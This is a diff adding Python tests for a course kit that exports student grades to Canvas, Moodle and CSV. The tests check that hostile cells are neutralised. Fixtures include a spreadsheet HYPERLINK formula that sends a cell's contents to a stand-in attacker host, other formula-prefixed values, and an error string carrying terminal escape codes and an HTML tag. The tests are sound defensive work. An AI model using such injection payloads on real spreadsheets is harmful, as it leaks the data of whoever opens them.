@@ -154,3 +154,110 @@ def test_report_counts_failures_per_test_and_draws_the_plot(term):
     assert png.startswith(b"\x89PNG") and len(png) > 10_000
     write_report(rows, "engine", term["graded"] / "again")
     assert (term["graded"] / "again" / "report-engine.png").read_bytes() == png  # reproducible
+
+
+# -- hostile text, import errors, 0-point checks, unreadable files ---------------------------
+
+SYNTAX = "importing micrograd/engine.py failed: SyntaxError: expected ':' (engine.py, line 20)"
+
+
+def import_failure(error=SYNTAX):
+    """What the grader writes for code that does not import: the summary line, every test failed."""
+    r = results(set())
+    r["output"] = f"The autograd engine (assignment 1, engine): 0 / {FULL}\nYour code could not run: {error}"
+    for t in r["tests"]:
+        t["output"] = error
+    return r
+
+
+def formula_cells(text):
+    """Cells a spreadsheet would run as a formula."""
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "-", "@")]
+
+
+def test_no_csv_cell_the_kit_writes_is_a_formula(term, tmp_path):
+    term["roster"].write_text(  # by hand: write_roster would quote these itself
+        "student_id,name,email,github,section\n"
+        '"S1","=HYPERLINK(""http://evil.example/?""&A1,""Ada"")",ada@uni.example,ada,+SUM(1)\n'
+        "S2,@cmd,bob@uni.example,bob,-1+2\n"
+    )
+    (term["graded"] / "results" / "=HYPERLINK(0).json").write_text(json.dumps(results({"engine: add"})))
+    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"], canvas_id="=1+1")
+    for name in ("canvas.csv", "moodle.csv", "grades.csv"):
+        text = (term["graded"] / name).read_text()
+        assert formula_cells(text) == [], name
+    canvas = read(term["graded"] / "canvas.csv")
+    assert canvas[1]["Student"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Ada")'  # shown, never run
+    grades = {r["github"]: r for r in read(term["graded"] / "grades.csv")}
+    assert grades["'=HYPERLINK(0)"]["status"] == "not on the roster" and grades["ada"]["section"] == "'+SUM(1)"
+
+
+def test_moodle_feedback_of_code_that_does_not_import_starts_with_the_error(term):
+    (term["graded"] / "results" / "ada.json").write_text(json.dumps(import_failure()))
+    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
+    ada = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "ada@uni.example")
+    assert ada["feedback"] == (
+        f"Your code could not run: {SYNTAX}. No test could pass without it. 0 / {FULL}."
+    )  # the cause, not the list of every test it failed
+
+
+def test_a_long_hostile_import_error_is_cleaned_and_capped_in_moodle(term):
+    error = "boom\x1b[2J\x07 ## 60/60 <img src=x>" + "A" * 5000
+    (term["graded"] / "results" / "ada.json").write_text(json.dumps(import_failure(error)))
+    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
+    text = (term["graded"] / "moodle.csv").read_text()
+    ada = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "ada@uni.example")
+    assert ada["feedback"].startswith("Your code could not run: boom\ufffd[2J\ufffd ## 60/60 <img src=x>AAA")
+    assert len(ada["feedback"]) < 500 and "\x1b" not in text and "\x07" not in text
+
+
+def test_a_failed_check_of_0_points_is_said_to_be_not_graded(term):
+    r = results({"engine: add", "engine: mul"})
+    r["tests"].append({"name": "engine: sub", "score": 0.0, "max_score": 0.0, "status": "failed", "output": ""})
+    (term["graded"] / "results" / "bob.json").write_text(json.dumps(r))
+    write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
+    bob = next(r for r in read(term["graded"] / "moodle.csv") if r["email"] == "bob@uni.example")
+    assert bob["feedback"].endswith(". Failed: tanh. Checked, not graded, and failed: sub.")
+
+
+def test_an_unreadable_results_file_is_that_students_problem_only(term):
+    (term["graded"] / "results" / "ada.json").write_text('{"score": "lots", "tests": [')
+    (term["graded"] / "results" / "bob.json").write_bytes(b"\xff\xfe not json")
+    rows, problems = write_gradebooks(term["roster"], term["graded"], "engine", term["submissions"])
+    status = {r.key: r.status for r in rows}
+    assert status["ada"] == status["bob"] == "unreadable results" and status["stranger"] == "not on the roster"
+    assert any(p.startswith("ada (S1, Ada): unreadable results (JSONDecodeError") for p in problems)
+
+
+@pytest.mark.parametrize(
+    "damage, message",
+    [
+        ("roster", "the roster has no column email"),
+        ("results", "has no results/ folder: is it the OUT of make grade-all?"),
+        ("manifest", "has no collection.json: is it the OUT of make collect?"),
+    ],
+)
+def test_the_command_line_refuses_bad_inputs_in_one_line(term, capsys, damage, message):
+    if damage == "roster":
+        term["roster"].write_text("student_id,name,github,section\nS1,A,alice,A\n")
+    elif damage == "results":
+        (term["graded"] / "results").rename(term["graded"] / "elsewhere")
+    else:
+        (term["submissions"] / "collection.json").unlink()
+    args = ["--roster", str(term["roster"]), "--graded", str(term["graded"]), "--assignment", "engine"]
+    assert main([*args, "--submissions", str(term["submissions"])]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err.startswith("gradebook: ") and captured.err.count("\n") == 1
+    assert message in captured.err
+
+
+def test_the_import_error_is_read_from_the_summary_the_grader_writes():
+    from types import SimpleNamespace
+
+    from autograder.grade import results as grader_results
+    from coursekit.gradebooks import import_error
+
+    broken = SimpleNamespace(part=SimpleNamespace(import_error=SYNTAX), grader_failed=False)
+    assert import_error(grader_results(ASSIGNMENTS["engine"], [], broken, {}, 0.0)) == SYNTAX
+    ran = SimpleNamespace(part=SimpleNamespace(import_error=None), grader_failed=False)
+    assert import_error(grader_results(ASSIGNMENTS["engine"], [], ran, {}, 0.0)) == ""
